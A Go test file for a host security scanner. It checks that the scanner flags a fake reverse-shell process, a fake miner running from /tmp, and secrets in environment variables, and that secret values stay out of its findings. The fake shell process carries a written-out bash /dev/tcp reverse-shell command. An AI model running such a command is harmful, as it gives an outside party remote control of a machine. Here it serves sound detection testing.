package process_test

import (
	"context"
	"errors"
	"os"
	"testing"

	"github.com/vigil-xy/vigil/internal/model"
	"github.com/vigil-xy/vigil/internal/scanner/process"

	"github.com/stretchr/testify/require"
)

type fakeProbe struct {
	procs []model.Process
	err   error
}

func (f fakeProbe) Processes(context.Context) ([]model.Process, error) {
	return f.procs, f.err
}

func TestScan(t *testing.T) {
	t.Parallel()

	shell := model.Process{PID: 4242, Name: "bash", Exe: "/usr/bin/bash", Cmdline: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}
	miner := model.Process{PID: 777, Name: "kworkerd", Exe: "/tmp/.x/kworkerd", Cmdline: "/tmp/.x/kworkerd -o pool:3333"}
	nginx := model.Process{PID: 1, Name: "nginx", Exe: "/usr/sbin/nginx", Cmdline: "nginx: master process"}

	s := process.Scanner{
		Probe:   fakeProbe{procs: []model.Process{nginx, shell, miner}},
		Environ: func() []string { return []string{"HOME=/root", "DB_PASSWORD=hunter2", "GITHUB_TOKEN=", "PATH=/bin"} },
	}
	res := s.Scan(t.Context())
	require.True(t, res.Available)
	require.Equal(t, 3, res.Total)
	require.Equal(t, []model.Process{shell, miner}, res.Suspicious)
	require.Equal(t, []model.Finding{
		{
			Description: "Possible reverse shell in process 4242 (bash)",
			Severity:    model.SeverityCritical,
			Domain:      model.DomainProcess,
			Rule:        "bash-dev-tcp",
			PID:         4242,
			Name:        "bash",
		},
		{
			Description: "Process 777 (kworkerd) running from temporary directory",
			Severity:    model.SeverityHigh,
			Domain:      model.DomainProcess,
			Rule:        "transient-executable",
			Path:        "/tmp/.x/kworkerd",
			PID:         777,
			Name:        "kworkerd",
		},
		{
			Description: "Secret in environment variable DB_PASSWORD",
			Severity:    model.SeverityMedium,
			Domain:      model.DomainProcess,
			Rule:        "env-password",
			PID:         int32(os.Getpid()),
			Name:        "DB_PASSWORD",
		},
	}, res.Findings)

	for _, f := range res.Findings {
		require.NotContains(t, f.Description, "hunter2")
	}
}

func TestScanUnavailable(t *testing.T) {
	t.Parallel()

	s := process.Scanner{
		Probe:   fakeProbe{err: errors.New("proc not mounted")},
		Environ: func() []string { return []string{"AWS_SECRET_ACCESS_KEY=x"} },
	}
	res := s.Scan(t.Context())
	require.False(t, res.Available)
	require.Contains(t, res.Reason, "proc not mounted")
	require.Empty(t, res.Findings)
}

func TestEnvFindings(t *testing.T) {
	t.Parallel()

	var testCases = []struct {
		scenario string
		given    string
		then     model.Severity
	}{
		{"aws", "AWS_SECRET_ACCESS_KEY=abc", model.SeverityHigh},
		{"private key", "SIGNING_PRIVATE_KEY=abc", model.SeverityHigh},
		{"api key", "STRIPE_API_KEY=abc", model.SeverityMedium},
		{"token", "NPM_TOKEN=abc", model.SeverityMedium},
		{"plain", "EDITOR=vim", ""},
		{"empty", "DB_PASSWORD=", ""},
	}

	for _, tc := range testCases {
		t.Run(tc.scenario, func(t *testing.T) {
			t.Parallel()
			got := process.EnvFindings([]string{tc.given})
			if tc.then == "" {
				require.Empty(t, got)
				return
			}
			require.Len(t, got, 1)
			require.Equal(t, tc.then, got[0].Severity)
		})
	}
}

func TestPsutilProbe(t *testing.T) {
	t.Parallel()

	procs, err := process.PsutilProbe{}.Processes(t.Context())
	if err != nil {
		t.Skipf("process table not available: %v", err)
	}
	self := int32(os.Getpid())
	var found bool
	for _, p := range procs {
		if p.PID == self {
			found = true
		}
	}
	require.True(t, found)
}
